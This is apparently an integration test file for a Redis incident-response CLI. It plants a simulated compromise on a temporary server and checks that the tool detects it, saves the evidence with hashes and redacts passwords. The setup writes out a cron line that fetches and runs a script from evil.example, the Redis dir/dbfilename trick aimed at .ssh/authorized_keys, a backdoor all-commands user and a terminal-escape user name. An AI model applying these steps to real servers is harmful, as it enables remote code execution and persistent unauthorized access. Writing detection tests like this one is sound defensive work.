// `redis-warden incident` on a real server with a planted compromise (issue 16): dir under a
// .ssh directory with dbfilename authorized_keys, keys backup1..4 holding a cron line that
// fetches a script, a backdoor user with +@all, a client of a disabled user still connected,
// CONFIG SET and FLUSHALL in commandstats. `incident start` finds every one (exit 1); list,
// show, note, report and close work on what it saved; NOPERM evidence is missing with the
// grant; no password used here is in the output, the report or the incident's directory.
import { readFileSync, statSync } from 'node:fs';
import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startRedis } from '../support/redis-server.js';
import type { RedisHandle } from '../support/redis-server.js';
import { tempXdg } from '../helpers/tui.js';
import type { XdgDirs } from '../helpers/tui.js';
import { cli } from './acl-cli.js';
import { filesUnder } from '../helpers/files-under.js';

const ADMIN_PW = 'incident-admin-password-0000000000001';
const BACKDOOR_PW = 'incident-backdoor-password-00000002';
const OLD_PW = 'incident-old-user-password-000000003';
const LIMITED_PW = 'incident-limited-password-0000000004';
const REQUIREPASS = 'incident-requirepass-0000000000000005';
const NARROW_PW = 'incident-narrow-password-00000000006';
const PASSWORDS = [ADMIN_PW, BACKDOOR_PW, OLD_PW, LIMITED_PW, REQUIREPASS, NARROW_PW];
const CRON = '\n\n*/1 * * * * curl -fsSL http://evil.example/init.sh | sh\n\n';

let server: RedisHandle;
let admin: Redis;
let old: Redis;
let home: string;
let xdg: XdgDirs;

beforeAll(async () => {
  xdg = tempXdg();
  home = await mkdtemp(join(tmpdir(), 'incident-home-'));
  await mkdir(join(home, '.ssh'));
  server = await startRedis({
    aclUsers: [
      'user default off',
      `user admin on >${ADMIN_PW} ~* &* +@all`,
      `user backdoor on >${BACKDOOR_PW} ~* &* +@all`,
      `user olduser on >${OLD_PW} ~app:* +get +ping`,
      `user limited on >${LIMITED_PW} ~* &* +@all -acl|list -client|list -config|get`,
      `user narrow on >${NARROW_PW} ~app:* &* +@all`,
    ],
    // Every command in the SLOWLOG (an artefact): AUTH and CONFIG SET masterauth among them.
    extraConfig: [`dir ${join(home, '.ssh')}`, 'dbfilename authorized_keys', 'slowlog-log-slower-than 0'],
  });
  admin = new Redis({ host: server.host, port: server.port, username: 'admin', password: ADMIN_PW });
  await admin.flushall();
  await admin.config('SET', 'masterauth', REQUIREPASS);
  for (let i = 1; i <= 4; i++) await admin.set(`backup${i}`, CRON);
  for (let i = 0; i < 50; i++) await admin.set(`app:${i}`, 'x');
  old = new Redis({
    host: server.host,
    port: server.port,
    username: 'olduser',
    password: OLD_PW,
    enableReadyCheck: false,
  });
  await old.ping();
  await admin.acl('SETUSER', 'olduser', 'off');
  // A user whose name would clear an operator's screen: shown escaped, once.
  await admin.acl('SETUSER', 'evil\x1b[2J', 'on', 'nopass', '+@all');
});
afterAll(async () => {
  admin?.disconnect();
  old?.disconnect();
  await server?.stop();
  await rm(home, { recursive: true, force: true });
  xdg.cleanup();
});

const env = (password: string) => ({
  XDG_CONFIG_HOME: xdg.config,
  XDG_STATE_HOME: xdg.state,
  REDISCLI_AUTH: password,
});
const run = (args: string[], user = 'admin', password = ADMIN_PW) =>
  cli(['incident', ...args, '-p', String(server.port), '--user', user], env(password));

interface Finding {
  kind: string;
  severity: string;
  title: string;
  suggests: { id: string; params: Record<string, unknown> }[];
}
interface StartJson {
  exit: number;
  incident: string;
  dir: string;
  manifestSha256: string;
  manifest: { what: string; file?: string; missing?: { reason: string; grant?: string } }[];
  findings: Finding[];
}

describe('redis-warden incident on a planted compromise', () => {
  let first: StartJson;

  it('start takes the evidence and finds every planted sign (exit 1)', async () => {
    const r = await run(['start', '--title', 'planted', '--json']);
    expect(r.code, r.stderr).toBe(1);
    first = JSON.parse(r.stdout) as StartJson;
    const kinds = first.findings.map((f) => f.kind);
    const one = (kind: string, re: RegExp) => first.findings.find((f) => f.kind === kind && re.test(f.title));
    expect(one('persistence.path', /\.ssh/)?.severity).toBe('critical');
    expect(one('keys.payload', /backup1/)?.title).toMatch(/^4 key/);
    expect(one('users.all-commands', /backdoor/)?.suggests).toEqual([
      { id: 'acl.setuser', params: { change: 'block', user: 'backdoor' } },
    ]);
    const disabled = one('clients.disabled-user', /disabled/);
    expect(disabled?.severity).toBe('high');
    expect(disabled?.suggests[0]?.id).toBe('client.kill');
    expect(one('commandstats', /^CONFIG SET/)).toBeDefined();
    expect(one('commandstats', /^FLUSHALL/)).toBeDefined();
    expect(kinds).toContain('users.no-baseline');
    // Every artefact was taken, each a file with its hash.
    const taken = first.manifest.filter((m) => m.file).map((m) => m.what);
    for (const w of [
      'info',
      'config',
      'acl-list',
      'acl-log',
      'clients',
      'slowlog',
      'modules',
      'functions',
      'dbsize',
      'keys',
    ])
      expect(taken).toContain(w);
  });

  it('the evidence is on disk: 0700/0600, hashes match, the manifest hash is journaled, values only for payload keys', async () => {
    const dir = first.dir;
    expect(statSync(dir).mode & 0o777).toBe(0o700);
    for (const f of filesUnder(dir)) expect(statSync(f).mode & 0o777, f).toBe(0o600);
    const keys = readFileSync(join(dir, first.manifest.find((m) => m.what === 'keys')!.file!), 'utf8');
    expect(keys).toContain('curl -fsSL http://evil.example/init.sh');
    expect(keys).toContain('"name": "app:1"');
    expect(keys).not.toMatch(/"value": "x"/);
    const config = readFileSync(join(dir, first.manifest.find((m) => m.what === 'config')!.file!), 'utf8');
    expect(config).toContain('"masterauth": "‹redacted›"');
    const journal = readFileSync(join(xdg.state, 'redis-warden', 'journal.jsonl'), 'utf8');
    expect(journal).toContain(first.manifestSha256);
    expect(journal).toContain('"action":"incident.evidence"');
    const show = await cli(['incident', 'show', first.incident], env(''));
    expect(show.code, show.stdout).toBe(0);
    expect(show.stdout).toContain(`manifest SHA-256 ${first.manifestSha256}`);
  });

  it('list shows it open at its step; note, report (markdown, json), close', async () => {
    const list = await cli(['incident', 'list'], env(''));
    expect(list.stdout).toContain(`${first.incident}  OPEN at step findings`);
    expect((await cli(['incident', 'note', first.incident, 'blocked at the firewall'], env(''))).code).toBe(
      0,
    );
    const md = await cli(['incident', 'report', first.incident, '--markdown'], env(''));
    expect(md.code, md.stderr).toBe(0);
    expect(md.stdout).toMatch(/^# Incident \d{4}-\d\d-\d\d-\d+: planted/);
    expect(md.stdout).toContain('## Timeline (UTC)');
    expect(md.stdout).toContain(first.manifestSha256);
    expect(md.stdout).toContain('blocked at the firewall');
    expect(md.stdout).toMatch(/CRITICAL .*dir .*\.ssh/);
    expect(md.stdout).toContain('user evil\\x1b[2J needs no password');
    expect(md.stdout).not.toContain('\x1b');
    const closed = await cli(
      ['incident', 'close', first.incident, '--outcome', 'contained', '--follow-up', 'rotate'],
      env(''),
    );
    expect(closed.code, closed.stderr).toBe(0);
    const json = await cli(['incident', 'report', first.incident, '--json'], env(''));
    const doc = JSON.parse(json.stdout) as {
      incident: { outcome: string; followUps: string[] };
      tampered: string[];
    };
    expect(doc.incident).toMatchObject({ outcome: 'contained', followUps: ['rotate'] });
    expect(doc.tampered).toEqual([]);
    expect((await cli(['incident', 'list'], env(''))).stdout).toContain(`${first.incident}  closed`);
    const text =
      md.stdout + json.stdout + (await cli(['incident', 'report', first.incident], env(''))).stdout;
    // No password this test used is in the report, or anywhere in the incident's directory.
    for (const pw of PASSWORDS) {
      expect(text).not.toContain(pw);
      for (const f of filesUnder(first.dir)) expect(readFileSync(f, 'utf8'), f).not.toContain(pw);
    }
  });

  it('a changed evidence file shows in show and report (exit 1)', async () => {
    const { writeFileSync } = await import('node:fs');
    const file = join(first.dir, first.manifest.find((m) => m.what === 'dbsize')!.file!);
    writeFileSync(file, '{"data": 0}\n');
    const show = await cli(['incident', 'show', first.incident], env(''));
    expect(show.code).toBe(1);
    expect(show.stdout).toMatch(/EVIDENCE CHANGED.*\n.*dbsize/);
  });

  it('NOPERM: what the user may not read is missing with its grant; the rest is read', async () => {
    const r = await run(['start', '--json'], 'limited', LIMITED_PW);
    expect([0, 1]).toContain(r.code);
    const doc = JSON.parse(r.stdout) as StartJson;
    const missing = (w: string) => doc.manifest.find((m) => m.what === w)?.missing;
    expect(missing('acl-list')).toMatchObject({ grant: '+acl|list' });
    expect(missing('clients')).toMatchObject({ grant: '+client|list' });
    expect(missing('config')).toMatchObject({ grant: '+config|get' });
    expect(doc.manifest.find((m) => m.what === 'info')?.file).toBeDefined();
    // The flow goes on: the next steps run on what could be read.
    const ks = await run(['keyspace', doc.incident], 'limited', LIMITED_PW);
    expect(ks.code, ks.stderr).toBe(0);
    expect(ks.stdout).toMatch(/keys before \d+, now \d+/);
    // The second incident has a baseline: the first one's users.
    expect(doc.findings.map((f) => f.kind)).not.toContain('users.no-baseline');
  });

  it('keys the user may not touch are listed as unreadable, the sample goes on', async () => {
    const r = await run(['start', '--json'], 'narrow', NARROW_PW);
    const doc = JSON.parse(r.stdout) as StartJson;
    const file = doc.manifest.find((m) => m.what === 'keys')?.file;
    expect(file, JSON.stringify(doc.manifest)).toBeDefined();
    const keys = readFileSync(join(doc.dir, file!), 'utf8');
    expect(keys).toMatch(/"name": "backup1",\s*"type": "unreadable/);
    expect(keys).toMatch(/"name": "app:1",\s*"type": "string"/);
    // Named like the dropper's keys: still a finding, from the name alone.
    expect(doc.findings.find((f) => f.kind === 'keys.payload')?.title).toMatch(/^4 key/);
  });

  it('a server that cannot be reached is exit 2 and opens no incident', async () => {
    const before = (await cli(['incident', 'list', '--json'], env(''))).stdout;
    const r = await cli(['incident', 'start', '-p', '1', '--timeout', '1000'], env(''));
    expect(r.code).toBe(2);
    // The NOPERM test's incident is still open: a new start says so first.
    expect(r.stderr).toMatch(/^Note: incident \d{4}-\d\d-\d\d-\d+ is open at step findings/m);
    expect((await cli(['incident', 'list', '--json'], env(''))).stdout).toBe(before);
    expect((await cli(['incident', 'show', '2020-01-01-9'], env(''))).code).toBe(2);
  });

  it('an incident.json with a bad field is listed as unreadable, naming the field; show exits 2', async () => {
    const { mkdirSync, writeFileSync } = await import('node:fs');
    const good = readFileSync(join(first.dir, 'incident.json'), 'utf8');
    const dir = join(xdg.state, 'redis-warden', 'incidents', '2020-01-01-1');
    mkdirSync(dir, { mode: 0o700 });
    writeFileSync(join(dir, 'incident.json'), good.replace(/"phase": "[a-z]+"/, '"phase": "panic"'));
    const list = await cli(['incident', 'list'], env(''));
    expect(list.stdout).toMatch(/^2020-01-01-1 {2}unreadable: incident\.phase: expected one of evidence/m);
    const show = await cli(['incident', 'show', '2020-01-01-1'], env(''));
    expect(show.code).toBe(2);
    expect(show.stderr).toContain('incident.phase: expected one of');
    writeFileSync(join(dir, 'incident.json'), good);
    expect((await cli(['incident', 'list'], env(''))).stdout).toMatch(
      /^2020-01-01-1 {2}unreadable: incident\.id: "\d{4}-\d\d-\d\d-\d+" is not its directory's name "2020-01-01-1"/m,
    );
  });
});
